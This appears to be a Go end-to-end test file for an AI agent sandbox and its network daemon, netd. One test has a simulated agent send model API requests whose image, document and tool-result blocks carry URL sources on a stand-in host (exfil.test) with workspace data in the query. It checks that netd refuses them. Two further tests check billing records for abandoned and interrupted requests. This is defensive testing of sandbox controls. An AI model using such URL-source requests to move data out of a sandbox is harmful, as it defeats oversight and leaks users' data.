//go:build e2e

package e2e

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"
)

// TestAttackModelURLSources: in injected mode the agent asks the API, through netd's
// forwarder, to fetch a URL carrying workspace data from an unlisted host (exfil.test), as a URL
// source of an image block, of a document block, of an image inside a tool result, and of an
// image in a token count. netd refuses all four (403) and nothing reaches exfil.test; a base64
// image passes. Without the refusal the API stand-in, which fetches URL sources as the API's
// servers do, fetches every one of them from exfil.test.
func TestAttackModelURLSources(t *testing.T) {
	t.Parallel()
	h, api := upInjectedStandin(t, "modelurls", "")
	exfil := h.StartServer("exfil.test")
	img := `{"type":"image","source":{"type":"url","url":"http://exfil.test/i.png?d=workspace-data"}}`
	msg := func(content string) string {
		return `{"model":"claude-test-1","max_tokens":16,"messages":[{"role":"user","content":[` + content + `]}]}`
	}
	bodies := []struct{ name, path, body string }{
		{"image", "/v1/messages", msg(img)},
		{"document", "/v1/messages", msg(`{"type":"document","source":{"type":"url","url":"http://exfil.test/d.pdf?d=workspace-data"}}`)},
		{"toolresult", "/v1/messages", msg(`{"type":"tool_result","tool_use_id":"toolu_1","content":[{"type":"text","text":"see"},` + img + `]}`)},
		{"count", "/v1/messages/count_tokens", msg(img)},
		{"b64", "/v1/messages", msg(`{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}}`)},
	}
	var script strings.Builder
	for _, b := range bodies {
		fmt.Fprintf(&script, "printf '%%s' '%s' > /tmp/%s.json; ", b.body, b.name)
		fmt.Fprintf(&script, `echo "%s $(curl -s -m 20 -o /dev/null -w '%%{http_code}' -H 'content-type: application/json' --data-binary @/tmp/%s.json http://127.0.0.1:15480%s)"; `,
			b.name, b.name, b.path)
	}
	res := h.Abox("run", script.String())
	out := agentOutput(res.Stdout)
	if !res.OK() {
		t.Fatalf("abox run: %s", res)
	}
	for _, want := range []string{"image 403", "document 403", "toolresult 403", "count 403", "b64 200"} {
		if !strings.Contains(out, want) {
			t.Errorf("want %q in the agent's output:\n%s", want, out)
		}
	}
	if ev := h.Traffic(exfil.Container); len(ev) != 0 {
		t.Errorf("exfil.test was reached through the API: %v", ev)
	}
	posts := 0
	for _, r := range api.Requests(t) {
		if r.Method == "POST" {
			posts++
		}
		if strings.Contains(string(r.Body), "exfil.test") || len(r.Fetched) > 0 {
			t.Errorf("the API received a URL source: %s %s, fetched %q", r.Path, r.Body, r.Fetched)
		}
	}
	if posts != 1 {
		t.Errorf("the API received %d POSTs, want only the base64 image's", posts)
	}
	if !strings.Contains(res.Stderr, "model API: 5 requests") || !strings.Contains(res.Stderr, "4 refused by netd") {
		t.Errorf("the run summary does not count the 5 requests and the 4 refusals:\n%s", res.Stderr)
	}
}

// TestAttackModelAbandonedRequest: in injected mode the agent sends a non-streamed request with
// a large max_tokens (the stand-in takes 30 s before its headers, as a long completion does)
// and hangs up after 3 s. The API had the request and may bill it whole; the run's summary and
// `abox logs --runs --json` count it as sent with no usage seen, may have been billed. Without
// that, netd records it as an upstream failure, which the summary explains as a request that
// never reached the upstream.
func TestAttackModelAbandonedRequest(t *testing.T) {
	t.Parallel()
	h, api := upInjectedStandin(t, "modelgone", "")
	body := `{"model":"claude-test-slow","max_tokens":64000,"messages":[{"role":"user","content":"write a very long essay"}]}`
	res := h.Abox("run", `echo "slow $(curl -s -m 3 -o /dev/null -w '%{http_code}' -H 'content-type: application/json' --data-binary '`+
		body+`' http://127.0.0.1:15480/v1/messages)"`)
	out := agentOutput(res.Stdout)
	if !res.OK() || !strings.Contains(out, "slow 000") {
		t.Fatalf("the agent did not hang up before the answer: exit %d\n%s\n%s", res.ExitCode, out, res.Stderr)
	}
	reached := false
	for _, r := range api.Requests(t) {
		reached = reached || (r.Path == "/v1/messages" && strings.Contains(string(r.Body), "claude-test-slow"))
	}
	if !reached {
		t.Fatalf("the API never received the request: the test proves nothing\n%s", res.Stderr)
	}
	const billed = "1 sent with no usage seen: may have been billed"
	if !strings.Contains(res.Stderr, "model API: 1 requests") || !strings.Contains(res.Stderr, billed) {
		t.Errorf("the run summary does not count the abandoned request as spent:\n%s", res.Stderr)
	}
	logs := mustAbox(t, h, "logs", "--runs", "--json")
	var runs []struct {
		Model *struct {
			Requests          int      `json:"requests"`
			Failed            int      `json:"failed"`
			MayHaveBeenBilled int      `json:"may_have_been_billed"`
			Models            []string `json:"models"`
		} `json:"model"`
	}
	if err := json.Unmarshal([]byte(logs.Stdout), &runs); err != nil || len(runs) != 1 || runs[0].Model == nil {
		t.Fatalf("logs --runs --json: %v\n%s", err, logs.Stdout)
	}
	if m := runs[0].Model; m.Requests != 1 || m.MayHaveBeenBilled != 1 || m.Failed != 0 || len(m.Models) != 1 || m.Models[0] != "claude-test-slow" {
		t.Errorf("logs --runs --json: model %+v; want 1 request, may have been billed, of claude-test-slow", m)
	}
	if table := mustAbox(t, h, "logs", "--runs"); !strings.Contains(table.Stdout, billed) {
		t.Errorf("logs --runs does not show the request as spent:\n%s", table.Stdout)
	}
}

// TestAttackModelNetdKilledInFlight: in injected mode the agent sends a long non-streamed
// request, and netd is killed while the upstream works on it, before netd could write what the
// request cost. The in-flight record netd wrote before the request left is in netd's log
// volume: the harvest finds it, and the run's summary and `abox logs --runs --json` count the
// request as may have been billed. Without that record the killed netd's log holds nothing of
// the request, and the run reports no model use at all.
func TestAttackModelNetdKilledInFlight(t *testing.T) {
	t.Parallel()
	h, api := upInjectedStandin(t, "modelkill", "")
	body := `{"model":"claude-test-slow","max_tokens":64000,"messages":[{"role":"user","content":"write a very long essay"}]}`
	cmd, wait := startRun(t, h, `curl -s -m 100 -o /dev/null -H 'content-type: application/json' --data-binary '`+body+
		`' http://127.0.0.1:15480/v1/messages; sleep 100`)
	defer cmd.Process.Kill()
	netd := waitRunning(t, h, "netd")
	// The stand-in logs the slow request on arrival; netd is killed while the stand-in works.
	arrived := func() bool {
		for _, r := range api.Requests(t) {
			if strings.HasPrefix(r.Answer, "received") {
				return true
			}
		}
		return false
	}
	deadline := time.Now().Add(60 * time.Second)
	for !arrived() {
		if time.Now().After(deadline) {
			t.Fatal("the API never received the request: the test proves nothing")
		}
		time.Sleep(200 * time.Millisecond)
	}
	h.MustDocker("kill", netd)
	res := wait()
	if !strings.Contains(res.Stderr, "1 sent with no usage seen: may have been billed") {
		t.Errorf("the run summary does not count the request netd died with as spent:\n%s", res.Stderr)
	}
	logs := mustAbox(t, h, "logs", "--runs", "--json")
	var runs []struct {
		Outcome string `json:"outcome"`
		Model   *struct {
			Requests          int `json:"requests"`
			MayHaveBeenBilled int `json:"may_have_been_billed"`
		} `json:"model"`
	}
	if err := json.Unmarshal([]byte(logs.Stdout), &runs); err != nil || len(runs) != 1 {
		t.Fatalf("logs --runs --json: %v\n%s", err, logs.Stdout)
	}
	if r := runs[0]; r.Outcome != "netd-died" || r.Model == nil || r.Model.Requests != 1 || r.Model.MayHaveBeenBilled != 1 {
		t.Errorf("logs --runs --json: outcome %q, model %+v; want netd-died and 1 request that may have been billed", r.Outcome, r.Model)
	}
}
